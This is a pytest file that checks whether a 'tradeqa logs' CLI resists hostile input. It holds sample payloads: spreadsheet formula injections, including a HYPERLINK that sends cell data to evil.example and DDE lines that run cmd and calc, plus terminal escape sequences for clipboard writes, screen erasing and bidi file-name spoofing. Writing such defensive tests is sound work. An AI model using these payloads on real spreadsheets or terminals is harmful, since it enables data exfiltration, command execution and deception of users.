"""`tradeqa logs` against hostile text and hostile arguments: spreadsheet formulas in an
export, terminal escape sequences in a table, out-of-range numbers; and logs it can only
read."""

from __future__ import annotations

import asyncio
import csv
import json
import sqlite3

import pytest
from storage_helpers import count_rows, make_record, remount, seed, tmpfs
from test_storage_cli import run

from storage import QueryLog

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1, "click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
ESCAPES = (
    "erase \x1b[1A\x1b[2K clipboard \x1b]52;c;ZXZpbA==\x07 bidi \u202egnp.exe\u202c c1 \x9b31m"
)


@pytest.fixture
def hostile_db(tmp_path):
    db = tmp_path / "log.db"
    records = [make_record(question=text, user_name=text) for text in FORMULAS]
    records.append(make_record(question=ESCAPES, user_name="\x1b[31mred\x1b[0m"))
    asyncio.run(seed(db, records))
    return db


def test_csv_export_neutralises_formula_cells(hostile_db, tmp_path, capsys):
    target = tmp_path / "out.csv"
    code, _, _ = run(["logs", "export", "--db", str(hostile_db), "--out", str(target)], capsys)
    assert code == 0
    with open(target, newline="", encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    exported = {r["question"] for r in rows}
    for text in FORMULAS:
        assert "'" + text in exported  # shown as text by a spreadsheet, never evaluated
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    assert {r["score"] for r in rows} == {"91.5"}  # numbers stay numbers


def _unsafe(text: str) -> list[str]:
    """Characters a terminal would obey rather than show."""
    return [
        ch
        for ch in text
        if ch != "\n" and (ord(ch) < 0x20 or 0x7F <= ord(ch) <= 0x9F or 0x202A <= ord(ch) <= 0x202E)
    ]


@pytest.mark.parametrize(
    "command",
    [
        ["recent"],
        ["recent", "--json"],
        ["unanswered"],
        ["feedback", "--all"],
        ["export", "--json"],
    ],
)
def test_tables_and_json_show_control_characters_instead_of_obeying_them(
    hostile_db, capsys, command
):
    asyncio.run(_unanswered_and_voted(hostile_db))
    code, out, err = run(["logs", *command, "--db", str(hostile_db)], capsys)
    assert code == 0
    assert _unsafe(out) == [] and _unsafe(err) == []
    assert "\\x1b[1A" in out or "\\u001b[1A" in out  # visible, not executed
    if "--json" in command:
        # Still the same data for a program reading it.
        assert ESCAPES in {row["question"] for row in json.loads(out)}


async def _unanswered_and_voted(db):
    async with await QueryLog.open(db) as log:
        miss = make_record(question=ESCAPES, outcome="unanswered", fact_id=None)
        assert await log.record(miss)
        assert await log.record_feedback(miss.query_id, 5, False)


def test_audit_details_and_error_messages_are_escaped_too(hostile_db, tmp_path, capsys):
    async def audit():
        async with await QueryLog.open(hostile_db) as log:
            await log.audit(actor_id=1, actor_name="\x1b]0;owned\x07", action="x", result=ESCAPES)

    asyncio.run(audit())
    code, out, _ = run(["logs", "audit", "--db", str(hostile_db)], capsys)
    assert code == 0 and _unsafe(out) == []
    code, out, err = run(["logs", "recent", "--db", str(tmp_path / "no\x1b[2Jwhere.db")], capsys)
    assert code == 1 and _unsafe(err) == [] and "\\x1b[2J" in err


@pytest.mark.parametrize(
    "argv",
    [
        ["recent", "--since", "99999999999d"],
        ["recent", "--since", "9999999999999999w"],
        ["recent", "--limit", "1e20"],
        ["recent", "--limit", "100000000000000000000"],
        ["recent", "--limit", "0"],
        ["recent", "--limit", "-5"],
        ["unanswered", "--limit", "99999999999999999999999"],
        ["recent", "--guild", "99999999999999999999999"],
        ["recent", "--user", "-1"],
        ["purge", "--older-than", "nan"],
        ["purge", "--older-than", "inf"],
        ["purge", "--older-than", "1e300"],
        ["purge", "--audit-older-than", "nan"],
        ["forget", "--user", "99999999999999999999999"],
        ["audit", "--limit", "1e20"],
        ["audit", "--since", "99999999999d"],
    ],
)
def test_out_of_range_arguments_are_usage_errors(hostile_db, capsys, argv):
    with pytest.raises(SystemExit) as exited:
        run(["logs", *argv, "--db", str(hostile_db)], capsys)
    assert exited.value.code == 2
    err = capsys.readouterr().err
    assert "Traceback" not in err
    assert count_rows(hostile_db) == len(FORMULAS) + 1


def test_a_bad_configured_retention_is_refused_not_guessed(hostile_db, capsys, monkeypatch):
    for name, value in (
        ("TRADEQA_RETENTION_DAYS", "nan"),
        ("TRADEQA_AUDIT_RETENTION_DAYS", "inf"),
    ):
        monkeypatch.setenv(name, value)
        code, _, err = run(["logs", "purge", "--db", str(hostile_db)], capsys)
        assert code == 2 and name in err
        monkeypatch.delenv(name)
    assert count_rows(hostile_db) == len(FORMULAS) + 1


def test_forget_exits_non_zero_while_the_forgotten_text_is_pending(hostile_db, capsys, monkeypatch):
    import storage.connection as connection_module

    monkeypatch.setattr(connection_module, "CHECKPOINT_PAUSE", 0.01)
    reader = sqlite3.connect(hostile_db, isolation_level=None)
    try:
        reader.execute("BEGIN")
        reader.execute("SELECT count(*) FROM queries").fetchone()
        code, out, _ = run(["logs", "forget", "--db", str(hostile_db), "--user", "333"], capsys)
    finally:
        reader.close()
    assert code == 1
    assert "removed 7 questions" in out and "Pending" in out and "log.db-wal" in out
    code, out, _ = run(["logs", "forget", "--db", str(hostile_db), "--user", "333"], capsys)
    assert code == 0 and "Pending" not in out


def test_admins_can_read_a_log_in_a_read_only_folder(tmp_path, capsys):
    with tmpfs(tmp_path / "ro") as folder:
        db = folder / "log.db"
        asyncio.run(seed(db, [make_record(question="readable?")]))
        remount(folder, "ro")
        code, out, err = run(["logs", "recent", "--db", str(db)], capsys)
        assert (code, err) == (0, "")
        assert "readable?" in out
        code, out, _ = run(["logs", "unanswered", "--db", str(db), "--json"], capsys)
        assert code == 0 and json.loads(out) == []
        # Deleting needs a writable folder: one line, no traceback, nothing changed.
        code, out, err = run(["logs", "purge", "--db", str(db), "--older-than", "0"], capsys)
        assert code == 1 and out == "" and err.count("\n") == 1 and "Traceback" not in err
        code, out, _ = run(["logs", "recent", "--db", str(db), "--json"], capsys)
        assert [row["question"] for row in json.loads(out)] == ["readable?"]
